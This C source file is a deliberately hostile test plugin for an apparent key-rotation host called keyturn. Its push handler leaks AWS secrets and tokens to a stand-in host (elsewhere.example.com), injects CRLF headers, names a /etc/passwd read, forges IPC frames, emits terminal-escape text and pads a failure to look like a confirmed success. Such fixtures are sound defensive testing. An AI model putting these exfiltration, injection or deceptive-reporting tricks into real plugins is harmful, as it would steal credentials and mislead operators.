/*
 * A pusher for tests, written against the header alone. What a target does besides being written is in its field "do";
 * what the library does at its start is chosen when it is compiled:
 *   -DIN_CONSTRUCTOR=... -DIN_OPEN=... -DIN_CLOSE=...  a statement; -DENTRY=...  the entry symbol; -DMANIFEST=...  the manifest's text;
 *   -DFIND  it looks below scopes;
 *   -DTABLE_SIZE=... -DREQUEST_SIZE=...  what these structs say of themselves; -DANY_HOST  hosts of other versions are taken, too.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "keyturn_pusher.h"

#include "attacks.h"

#ifndef ENTRY
#define ENTRY kt_pusher_entry_v1
#endif
#ifndef TABLE_SIZE
#define TABLE_SIZE sizeof table
#endif
#ifndef REQUEST_SIZE
#define REQUEST_SIZE sizeof request
#endif

struct instance {
    const kt_http *http;
    const kt_log *log;
    const kt_secret *secret;
    const kt_clock *clock;
    const kt_aws *aws;
    char token[256];
    char endpoint[256];
};

#include "aws.h"
#include "wire.h"

#ifdef IN_CONSTRUCTOR
__attribute__((constructor)) static void at_load(void) { IN_CONSTRUCTOR; }
#endif

/* The value of a string field of a flat JSON object without escapes. */
static const char *field(kt_string json, const char *name, char *buffer, size_t size) {
    char quoted[64], text[4096];
    size_t length = json.length < sizeof text - 1 ? json.length : sizeof text - 1;
    memcpy(text, json.data, length);
    text[length] = 0;
    buffer[0] = 0;
    snprintf(quoted, sizeof quoted, "\"%s\"", name);
    const char *at = strstr(text, quoted);
    if (!at || !(at = strchr(at + strlen(quoted), ':')) || !(at = strchr(at, '"'))) return buffer;
    for (at++; *at && *at != '"' && size > 1; at++) {
        if (*at == '\\') at++;
        *buffer++ = *at;
        size--;
    }
    *buffer = 0;
    return buffer;
}

static void tell(const kt_call *call, kt_evidence evidence, const char *message) {
    kt_report report = {.size = sizeof report, .evidence = evidence};
    report.message = (kt_string){message, strlen(message)};
    call->report(call, &report);
}

static void say(struct instance *self, const kt_call *call, const char *line) {
    self->log->write(call, KT_LOG_WARNING, (kt_string){line, strlen(line)});
}

static uint32_t send_to(
    struct instance *self, const kt_call *call, const char *url, const char *header, kt_bytes body) {
    kt_header headers[] = {
        {KT_STRING("authorization"), {self->token, strlen(self->token)}},
        {KT_STRING("x-more"), {header, strlen(header)}},
    };
    kt_http_request request = {.size = REQUEST_SIZE, .method = KT_STRING("PUT"), .url = {url, strlen(url)},
                               .headers = headers, .header_count = 2, .body = body};
    const kt_http_response *response = self->http->send(call, &request);
    return response->error == KT_HTTP_OK ? response->status : 0;
}

/* PUT ENDPOINT/PLACE with "ID:SECRET", from a buffer that is wiped. */
static kt_outcome write_pair(
    struct instance *self, const kt_call *call, const char *place, const kt_key_pair *pair) {
    uint64_t length = pair->access_key_id.length + 1 + pair->secret_access_key.length;
    char url[512];
    char *body = self->secret->allocate(length);
    if (!body) return KT_INTERNAL;
    snprintf(url, sizeof url, "%s/%s", self->endpoint, place);
    memcpy(body, pair->access_key_id.data, pair->access_key_id.length);
    body[pair->access_key_id.length] = ':';
    memcpy(body + pair->access_key_id.length + 1, pair->secret_access_key.data, pair->secret_access_key.length);
    uint32_t status = send_to(self, call, url, "nothing", (kt_bytes){(const uint8_t *)body, length});
    self->secret->release(body, length);
    tell(call, KT_EVIDENCE_ACKNOWLEDGED, status == 200 ? "written" : "not written");
    return status == 200 ? KT_OK : KT_RETRYABLE;
}

/* Puts the secret and the token wherever a pusher can put something. */
static void leak(struct instance *self, const kt_call *call, const kt_key_pair *pair) {
    char secret[128], line[1024];
    snprintf(secret, sizeof secret, "%.*s", (int)pair->secret_access_key.length, pair->secret_access_key.data);
    snprintf(line, sizeof line, "secret %s token %s", secret, self->token);
    say(self, call, line);
    send_to(self, call, "https://elsewhere.example.com/collect", secret, (kt_bytes){0});
    snprintf(line, sizeof line, "https://elsewhere.example.com/%s/%s", secret, self->token);
    send_to(self, call, line, self->token, (kt_bytes){0});
    snprintf(line, sizeof line, "%s/leaked\r\nX-Injected: %s", self->endpoint, secret);
    send_to(self, call, line, "x", (kt_bytes){0});
    snprintf(line, sizeof line, "wrote %s with %s", secret, self->token);
    tell(call, KT_EVIDENCE_ACKNOWLEDGED, line);
}

/* The log without a call, hosts, and a line that is cut in the middle of the secret. */
static void leak_more(struct instance *self, const kt_call *call, const kt_key_pair *pair, const char *how) {
    char secret[128], line[8192] = "";
    snprintf(secret, sizeof secret, "%.*s", (int)pair->secret_access_key.length, pair->secret_access_key.data);
    if (!strcmp(how, "leak-without-call")) say(self, NULL, secret);
    if (!strcmp(how, "leak-as-host")) {
        snprintf(line, sizeof line, "https://%s.example.com/", self->token);
        send_to(self, call, line, "x", (kt_bytes){0});
    }
    if (!strcmp(how, "leak-as-user")) {
        snprintf(line, sizeof line, "https://%s:%s@elsewhere.example.com/", self->token, secret);
        send_to(self, call, line, "x", (kt_bytes){0});
    }
    if (!strcmp(how, "leak-as-method")) {
        kt_http_request request = {.size = sizeof request, .method = {secret, strlen(secret)}, .url = KT_STRING("https://x/")};
        self->http->send(call, &request);
    }
    if (!strcmp(how, "leak-cut")) {
        /* Letters of six bytes each fill the line up to 39 bytes before its end, where the secret begins. */
        while (strlen(line) < 2000 - 39 - 5) strcat(line, "e\xCC\x81\xCC\x81x");
        while (strlen(line) < 2000 - 39) strcat(line, "x");
        strcat(line, secret);
        say(self, call, line);
    }
}

/* A yes, for better or worse reasons. The service answers by the first part of the path. */
static kt_outcome say_yes(
    struct instance *self, const kt_call *call, const char *place, const kt_key_pair *pair, const char *why) {
    static int calls;
    char path[1024];
    const char *method = "PUT";
    snprintf(path, sizeof path, "%s/%s/%.*s", self->endpoint, why, (int)pair->access_key_id.length, pair->access_key_id.data);
    if (!strcmp(why, "nothing")) return KT_OK;
    if (!strcmp(why, "unchanged")) return KT_UNCHANGED;
    if (!strcmp(why, "read-only")) method = "GET";
    if (!strcmp(why, "written-before") && calls++) return KT_UNCHANGED;
    kt_http_request request = {.size = sizeof request, .method = {method, strlen(method)}, .url = {path, strlen(path)}};
    self->http->send(call, &request);
    if (!strcmp(why, "written-before")) return KT_RETRYABLE;
    tell(call, KT_EVIDENCE_READ_BACK, "written, and read back");
    (void)place;
    return KT_OK;
}

static void garble(void) {
    unsigned char bytes[4096];
    memset(bytes, 0xA5, sizeof bytes);
    if (write(3, bytes, sizeof bytes) < 0) abort();
    for (;;) pause();
}

/* An outcome frame for a call that was never made: length 0, kind 34, call 77. */
static void forge(void) {
    unsigned char bytes[] = {0, 0, 0, 0, 34, 77, 0, 0, 0};
    if (write(3, bytes, sizeof bytes) < 0) abort();
    for (;;) pause();
}

/* A request while the pusher is opened: it must be refused. */
void send_in_open(const kt_host *host, const kt_call *call, kt_string configuration) {
    char endpoint[256], url[512];
    const kt_http *http = host->service(host, KT_STRING(KT_SERVICE_HTTP_1));
    field(configuration, "endpoint", endpoint, sizeof endpoint);
    snprintf(url, sizeof url, "%s/too-early", endpoint);
    kt_http_request request = {.size = sizeof request, .method = KT_STRING("PUT"), .url = {url, strlen(url)}};
    const kt_http_response *response = http->send(call, &request);
    if (response->error != KT_HTTP_REFUSED || response->status != 0 || response->error_text.length == 0) abort();
}

static kt_outcome opened(const kt_host *host, const kt_call *call, kt_string configuration, void **instance) {
    static struct instance self;
#ifdef IN_OPEN
    IN_OPEN;
#endif
    self.http = host->service(host, KT_STRING(KT_SERVICE_HTTP_1));
    self.log = host->service(host, KT_STRING(KT_SERVICE_LOG_1));
    self.secret = host->service(host, KT_STRING(KT_SERVICE_SECRET_1));
    self.clock = host->service(host, KT_STRING(KT_SERVICE_CLOCK_1));
    self.aws = host->service(host, KT_STRING(KT_SERVICE_AWS_1));
    if (!self.http || !self.log || !self.secret || !self.clock) return KT_INTERNAL;
    if (host->service(host, KT_STRING("kt.nothing/1"))) return KT_INTERNAL;
    field(configuration, "token", self.token, sizeof self.token);
    field(configuration, "endpoint", self.endpoint, sizeof self.endpoint);
    *instance = &self;
    (void)call;
    return KT_OK;
}

static void closed(void *instance) {
#ifdef IN_CLOSE
    IN_CLOSE;
#endif
    memset(instance, 0, sizeof(struct instance));
}

static kt_outcome check(void *instance, const kt_call *call, const kt_target *target) {
    (void)instance, (void)target;
    tell(call, KT_EVIDENCE_NONE, "it would work");
    return KT_OK;
}

static kt_outcome push(void *instance, const kt_call *call, const kt_target *target, const kt_key_pair *pair) {
    struct instance *self = instance;
    char place[64], what[256];
    field(target->fields, "place", place, sizeof place);
    field(target->fields, "do", what, sizeof what);
    if (self->clock->remaining_ms(call) <= 0 || self->clock->now_ms() < 1600000000000) return KT_INTERNAL;
    if (!strcmp(what, "nothing")) return KT_OK;
    if (!strncmp(what, "aws ", 4)) return self->aws ? ask_aws(self->aws, call, what + 4) : KT_UNSUPPORTED;
    if (!strncmp(what, "says-", 5)) return say_yes(self, call, place, pair, what + 5);
    if (!strcmp(what, "segfault")) raise(SIGSEGV);
    if (!strcmp(what, "panic")) {
        fprintf(stderr, "panic: the frobnicator is full\n\x1b[31mwith %.*s and %s\nrax 0x4865784d656d6f72\n",
                (int)pair->secret_access_key.length, pair->secret_access_key.data, self->token);
        for (int line = 0; line < 20000; line++) fprintf(stderr, "frame %d\n", line);
        fprintf(stderr, "that was all\n");
        abort();
    }
    if (!strcmp(what, "loop")) for (volatile int on = 1; on;) {}
    if (!strcmp(what, "sleep")) while (!self->clock->sleep_ms(call, 60000)) {}
    if (!strcmp(what, "exit")) exit(0);
    if (!strcmp(what, "rubbish")) return 4711;
    if (!strcmp(what, "garbage")) garble();
    if (!strcmp(what, "forge")) forge();
    if (!strcmp(what, "close")) close(3), close(0), close(1), close(2);
    if (!strcmp(what, "print")) {
        printf("%.*s on stdout\n", (int)pair->secret_access_key.length, pair->secret_access_key.data);
        fprintf(stderr, "%.*s on stderr\n", (int)pair->secret_access_key.length, pair->secret_access_key.data);
        fflush(stdout);
    }
    kt_outcome outcome = write_pair(self, call, place, pair);
    if (!strncmp(what, "try-", 4)) {
        /* "try-read /etc/passwd": what, and to what. */
        char *argument = strchr(what, ' ');
        if (argument) *argument++ = 0;
        if (!strcmp(what, "try-post")) {
            uint32_t status = send_to(self, call, argument, "x", (kt_bytes){
                (const uint8_t *)pair->secret_access_key.data, pair->secret_access_key.length});
            snprintf(attack_result, sizeof attack_result, status ? "got status %u" : "not sent (%u)", status);
        } else {
            attack(what + 4, argument ? argument : "");
        }
        tell(call, KT_EVIDENCE_ACKNOWLEDGED, attack_result);
    }
    if (!strncmp(what, "wire-", 5)) {
        wire_attack(self, call, what + 5);
        tell(call, KT_EVIDENCE_ACKNOWLEDGED, attack_result);
    }
    if (!strcmp(what, "paint")) {
        /* Colours, a title, a screen that is cleared, another line, letters from right to left, one letter of 60 KiB. */
        static char painted[64 << 10] = "painted \x1b[31mred\x1b]0;title\x07\x1b[2J\r\nnext\xe2\x80\xae" "etalid\xe2\x80\x8b\xc2\x9b" "2J e";
        for (size_t at = strlen(painted); at + 3 < sizeof painted; at += 2) memcpy(painted + at, "\xCC\x81", 2);
        say(self, call, painted);
        tell(call, KT_EVIDENCE_ACKNOWLEDGED, painted);
    }
    if (!strcmp(what, "pad")) {
        static char padded[600] = "failed";
        memset(padded + strlen(padded), ' ', 200);
        strcat(padded, "\xe3\x80\x80\xe3\x80\x80  confirmed gitlab:acme/prod (read-back)  all is well");
        tell(call, KT_EVIDENCE_ACKNOWLEDGED, padded);
        return KT_RETRYABLE;
    }
    if (!strcmp(what, "ignore")) for (;;) usleep(100000);
    if (!strcmp(what, "leak")) leak(self, call, pair);
    if (!strncmp(what, "leak-", 5)) leak_more(self, call, pair, what);
    return outcome;
}

#ifndef ID
#define ID "plain"
#endif

#ifdef FIND
#include "find.h"
#endif

static const kt_pusher table = {
    .size = TABLE_SIZE, .abi_minor = KT_ABI_MINOR, .id = KT_STRING_INIT(ID), .version = KT_STRING_INIT("1.0.0"),
    .summary = KT_STRING_INIT("for tests"), .manifest = KT_STRING_INIT(MANIFEST), .open = opened, .close = closed,
    .check = check, .push = push,
#ifdef FIND
    .extension = extension,
#endif
};

KT_EXPORT const kt_pusher *ENTRY(const kt_host *host) {
#ifdef ANY_HOST
    (void)host;
    return &table;
#else
    return host->abi_minor == KT_ABI_MINOR ? &table : NULL;
#endif
}
